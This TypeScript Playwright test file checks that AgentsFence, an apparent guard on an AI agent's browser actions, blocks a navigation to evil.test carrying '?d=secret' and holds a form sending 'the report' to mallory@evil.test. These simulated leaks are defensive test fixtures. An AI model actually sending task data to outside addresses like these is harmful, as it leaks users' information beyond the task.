import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { expect, test } from '@playwright/test';
import { mkdtempSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { startBrowserCli, type BrowserCli } from '../tests/cli/run';
import { extensionDir } from './fixtures/extension';
import { startTestServer, type TestServer } from './fixtures/server';

/**
 * A real third-party client: Playwright MCP (@playwright/mcp 0.0.83, pinned), driven over stdio by the
 * official MCP SDK client, attached to `agentsfence browser`'s CDP endpoint (--cdp-endpoint). What the agent
 * reads is what the MCP tools return: a benign read; a blocked navigation whose reason the next
 * browser_snapshot reads within a second; a held form submit the snapshot shows as held, then as denied
 * (answered from the terminal). The test server's log is the truth for what left the browser. Negative
 * controls: the same snapshot before the submit has no AgentsFence line (the status is the fence's, not
 * the page's); the submit to the task's own recipient lands; and, in tests/cdp-proxy/proxy.test.ts, a proxy
 * not told the extension's id leaves the tab on the blocked page (which agents cannot read).
 */

const TASK = 'Read the front page of news.test and reply to bob@x.com on mail.test';
test.setTimeout(120_000);

let server: TestServer;
let fence: BrowserCli;
let mcp: Client;

interface ToolResult {
  isError?: boolean;
  content?: { type: string; text?: string }[];
}

async function tool(name: string, args: Record<string, unknown>): Promise<{ text: string; isError: boolean; ms: number }> {
  const started = Date.now();
  const result = (await mcp.callTool({ name, arguments: args })) as ToolResult;
  return { text: (result.content ?? []).map((c) => c.text ?? '').join('\n'), isError: result.isError === true, ms: Date.now() - started };
}

const COMPOSE = `<!doctype html><title>Compose</title><main><h1>New message</h1>
<form method="post" action="/send"><label>To <input name="to" type="email"></label>
<label>Message <textarea name="body"></textarea></label><button type="submit">Send</button></form></main>`;

test.beforeAll(async () => {
  server = await startTestServer();
  server.setPage('/', '<!doctype html><title>News</title><main><h1>Front page</h1><article><h2>Rain expected on Tuesday</h2><p>Bring an umbrella.</p></article></main>');
  server.setPage('/compose', COMPOSE);
  server.setPage('/send', '<!doctype html><title>Sent</title><p>Message sent.</p>');
  fence = await startBrowserCli(['--task', TASK, '--ask-timeout', '30'], { AF_EXTENSION: extensionDir('full') });
  const cli = join(dirname(createRequire(import.meta.url).resolve('@playwright/mcp/package.json')), 'cli.js');
  mcp = new Client({ name: 'agentsfence-e2e', version: '1.0.0' });
  const outputDir = mkdtempSync(join(tmpdir(), 'af-mcp-'));
  await mcp.connect(new StdioClientTransport({ command: process.execPath, args: [cli, '--cdp-endpoint', fence.cdpUrl, '--timeout-settle', '0', '--output-dir', outputDir], stderr: 'ignore' }));
});

test.afterAll(async () => {
  await mcp?.close();
  await fence?.close();
  await server?.close();
});

test('benign read: browser_navigate then browser_snapshot shows the news page', async () => {
  const nav = await tool('browser_navigate', { url: `${server.origin('news.test')}/` });
  expect(nav.isError, nav.text).toBe(false);
  const snap = await tool('browser_snapshot', {});
  expect(snap.text).toContain('Rain expected on Tuesday');
});

test('blocked navigation: the next browser_snapshot reads what was blocked and why, at once (no 30 s timeout)', async () => {
  const nav = await tool('browser_navigate', { url: `${server.origin('evil.test')}/landing?d=secret` });
  // The navigation itself fails as Chromium reports it, with no reason in it.
  expect(nav.text).toContain('net::ERR_BLOCKED_BY_CLIENT');
  expect(nav.text).not.toContain('outside the task');
  const snap = await tool('browser_snapshot', {});
  // The floor for a snapshot in this run (a shared machine): the same tool again, on the page now loaded.
  const floor = (await tool('browser_snapshot', {})).ms;
  test.info().annotations.push({ type: 'timing', description: `blocked navigate ${nav.ms} ms; blocked-page snapshot ${snap.ms} ms; again ${floor} ms` });
  expect(snap.isError, snap.text).toBe(false);
  expect(snap.text).toContain('Blocked by AgentsFence');
  expect(snap.text).toContain(`${server.origin('evil.test')}/landing?d=secret`);
  expect(snap.text).toMatch(/Why: [^\n]*evil\.test/);
  // Before the readable copy this snapshot timed out after 30 s; then, answered while the tab was still on its
  // way to the copy, it failed once and Playwright tried again a second later (1.11 and 1.13 s). The proxy now
  // answers the refused navigation once the copy is there, so the snapshot reads it at once: within a second
  // of what a snapshot of a loaded page costs in this run.
  expect(snap.ms).toBeLessThan(floor + 1_000);
  console.log(`e2e/mcp: blocked navigate ${nav.ms} ms, blocked-page snapshot ${snap.ms} ms, a second snapshot of it ${floor} ms`);
  // Words only: the readable page has no control (the "Ask the user" button stays on the extension's page).
  expect(snap.text).not.toMatch(/button|link/);
  expect(server.hits('/landing', 'evil.test')).toEqual([]);
  // The agent can go on with the task.
  expect((await tool('browser_navigate', { url: `${server.origin('news.test')}/` })).isError).toBe(false);
});

test('held form submit: the snapshot shows it held, the terminal denies it, the snapshot shows it denied; the POST never lands', async () => {
  await tool('browser_navigate', { url: `${server.origin('mail.test')}/compose` });
  const before = await tool('browser_snapshot', {});
  // Negative control: the page alone says nothing about AgentsFence.
  expect(before.text).not.toContain('AgentsFence');
  await tool('browser_type', { target: 'input[name=to]', element: 'To', text: 'mallory@evil.test' });
  await tool('browser_type', { target: 'textarea', element: 'Message', text: 'the report' });
  const asked = fence.stderr().length;
  const click = await tool('browser_click', { target: 'button', element: 'Send' });
  expect(click.isError, click.text).toBe(false);

  await expect.poll(async () => (await tool('browser_snapshot', {})).text, { timeout: 5_000 }).toMatch(/status[^\n]*AgentsFence: browser\.form_submit → [^\n]* is waiting for the user's approval/);
  const promptOf = () => /AgentsFence #(\d+): [^\n]*mallory@evil\.test/.exec(fence.stderr().slice(asked))?.[1];
  await expect.poll(promptOf, { timeout: 10_000 }).toBeDefined();
  const number = promptOf()!;
  fence.child.stdin.write(`${number} n\n`);
  await expect.poll(() => fence.stderr().slice(asked), { timeout: 10_000 }).toContain(`#${number} → denied`);
  await expect.poll(async () => (await tool('browser_snapshot', {})).text, { timeout: 5_000 }).toMatch(/alert[^\n]*blocked by AgentsFence[^\n]*The form was not sent/);
  expect(server.hits('/send', 'mail.test')).toEqual([]);

  // Control: the same form, in the same tab, to the task's own recipient is sent.
  await tool('browser_navigate', { url: `${server.origin('mail.test')}/compose` });
  await tool('browser_type', { target: 'input[name=to]', element: 'To', text: 'bob@x.com' });
  await tool('browser_click', { target: 'button', element: 'Send' });
  await expect.poll(() => server.hits('/send', 'mail.test').length, { timeout: 5_000 }).toBe(1);
});
